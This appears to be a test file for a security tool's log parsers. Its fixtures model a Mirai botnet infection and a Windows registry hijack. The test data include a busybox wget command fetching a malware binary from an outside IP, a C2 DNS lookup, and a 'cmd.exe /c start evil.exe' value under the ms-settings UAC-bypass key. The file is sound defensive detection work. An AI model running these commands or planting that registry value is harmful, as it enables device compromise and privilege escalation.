/**
 * _Im_Dns (Zeek dns.log and DnsEvents), _Im_FileEvent (Defender and Telltale's own scan rows) and the
 * process parsers (Defender) on small generated logs.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Store } from '../../src/store/db.js';
import { scratchDir } from '../helpers.js';
import { LOGS, loadedStore, rows, countOf } from './fixtures.js';

const scratch = scratchDir('tt-asim-dfp');
let store: Store;

beforeAll(async () => {
  for (const [name, text] of Object.entries(LOGS)) scratch.file(name, text);
  store = await loadedStore(scratch.dir);
  await store.insertRows('TelltaleFileScan', [
    {
      TimeGenerated: '2026-05-21T00:30:00.000Z',
      DeviceName: 'cpe-gw-17',
      ActionType: 'YaraMatch',
      ObjectName: 'dump/bin/mirai.arm7',
      FileName: 'mirai.arm7',
      FolderPath: 'dump/bin',
      SHA256: 'e'.repeat(64),
      RuleName: 'Mirai_Botnet',
      _Source: 'dump/bin/mirai.arm7',
    },
  ]);
});
afterAll(() => store.close());

describe('_Im_Dns', () => {
  it('maps each DNS query once, with response codes by name', async () => {
    const dns = await rows(store, '_Im_Dns | order by DnsQuery asc');
    expect(dns).toHaveLength(2);
    expect(dns[0]).toMatchObject({
      DnsQuery: 'cnc.miraibotnet.su',
      Domain: 'cnc.miraibotnet.su',
      DnsQueryTypeName: 'A',
      DnsQueryType: 1,
      DnsResponseCode: 0,
      DnsResponseCodeName: 'NOERROR',
      DnsResponseName: '176.65.139.7',
      EventResult: 'Success',
      EventType: 'Query',
      EventSchema: 'Dns',
      SrcIpAddr: '10.20.0.17',
      IpAddr: '10.20.0.17',
    });
    expect(String(dns[0]._Source)).toMatch(/dns\.log:8$/);
    expect(dns[1]).toMatchObject({
      DnsQuery: 'nope.example',
      EventResult: 'Failure',
      EventResultDetails: 'NXDOMAIN',
    });
  });

  it('filters by response code, domain and source address', async () => {
    const count = (q: string) => countOf(store, q);
    expect(await count("_Im_Dns(responsecodename='NXDOMAIN')")).toBe(1);
    expect(await count("imDns(domain_has_any=dynamic(['miraibotnet.su']))")).toBe(1);
    expect(await count("_Im_Dns(srcipaddr='10.20.0.99')")).toBe(0);
    expect(await count('_ASim_Dns')).toBe(2);
  });
});

describe('_Im_FileEvent', () => {
  it('maps Defender file events and Telltale scan rows', async () => {
    const files = await rows(store, '_Im_FileEvent | order by EventVendor asc');
    expect(files).toHaveLength(2);
    expect(files[0]).toMatchObject({
      EventVendor: 'Microsoft',
      EventType: 'FileCreated',
      TargetFileName: 'mirai.arm7',
      TargetFilePath: '/tmp/mirai.arm7',
      TargetFileDirectory: '/tmp',
      TargetFileSHA256: 'a'.repeat(64),
      Hash: 'a'.repeat(64),
      HashType: 'SHA256',
      ActorUsername: 'root',
      ActingProcessName: 'wget',
      DvcHostname: 'cpe-gw-17',
      DvcId: 'dev-2',
    });
    expect(files[1]).toMatchObject({
      EventVendor: 'Telltale',
      EventType: 'FileAccessed',
      ThreatName: 'Mirai_Botnet',
      TargetFilePath: 'dump/bin/mirai.arm7',
      DvcHostname: 'cpe-gw-17',
    });
    const count = (q: string) => countOf(store, q);
    expect(await count(`_Im_FileEvent(hashes_has_any=dynamic(['${'e'.repeat(64)}']))`)).toBe(1);
    expect(await count("imFileEvent(eventtype_in=dynamic(['FileCreated']))")).toBe(1);
  });
});

describe('process parsers', () => {
  it('maps Defender process creation for imProcessCreate and its kin', async () => {
    const created = await rows(store, 'imProcessCreate');
    expect(created).toHaveLength(1);
    expect(created[0]).toMatchObject({
      EventType: 'ProcessCreated',
      TargetProcessName: '/bin/busybox',
      CommandLine: 'busybox wget http://176.65.139.7/mirai.arm7',
      TargetProcessId: '4242',
      TargetUsername: 'cpe\\root',
      User: 'cpe\\root',
      TargetUsernameType: 'Windows',
      ActingProcessName: '/bin/sh',
      ParentProcessName: 'telnetd',
      Hash: 'd'.repeat(64),
    });
    const count = (q: string) => countOf(store, q);
    for (const name of [
      '_Im_ProcessEvent',
      'imProcess',
      '_ASim_ProcessEvent',
      '_ASim_ProcessEvent_Create',
      'ASimProcessCreate',
    ])
      expect(await count(name), name).toBe(1);
    expect(await count('imProcessTerminate')).toBe(0);
    expect(await count("_Im_ProcessCreate(commandline_has_any=dynamic(['wget']))")).toBe(1);
    expect(await count("_Im_ProcessCreate(commandline_has_any=dynamic(['curl']))")).toBe(0);
  });
});

describe('imRegistry', () => {
  it("maps Defender's registry events with the schema's value types, actor and parent process", async () => {
    const reg = await rows(store, 'imRegistry');
    expect(reg).toHaveLength(1);
    expect(reg[0]).toMatchObject({
      EventType: 'RegistryValueSet',
      EventSchema: 'RegistryEvent',
      RegistryKey: 'HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command',
      RegistryValue: '(Default)',
      RegistryValueType: 'Reg_Sz',
      RegistryValueData: 'cmd.exe /c start evil.exe',
      ActorUsername: 'corp\\alice',
      User: 'corp\\alice',
      ActorUsernameType: 'Windows',
      Process: 'C:\\Windows\\System32\\reg.exe',
      ActingProcessId: '5100',
      ParentProcessName: 'cmd.exe',
      ParentProcessId: '5000',
      Dvc: 'ws-7',
    });
    expect(String(reg[0]._Source)).toMatch(/DeviceRegistryEvents\.json:1$/);
  });

  it('filters by key, value data, event type and device', async () => {
    const count = (q: string) => countOf(store, q);
    expect(await count("_Im_RegistryEvent(registrykey_has_any=dynamic(['ms-settings']))")).toBe(1);
    expect(await count("_Im_RegistryEvent(registrykey_has_any=dynamic(['Winlogon']))")).toBe(0);
    expect(await count("_Im_RegistryEvent(registrydata_has_any=dynamic(['evil.exe']))")).toBe(1);
    expect(await count("_Im_RegistryEvent(eventtype_in=dynamic(['RegistryKeyDeleted']))")).toBe(0);
    expect(await count("_Im_RegistryEvent(dvchostname_has_any=dynamic(['ws-7']))")).toBe(1);
    expect(await count("ASimRegistry | where RegistryValueType == 'Reg_Sz'")).toBe(1);
  });
});
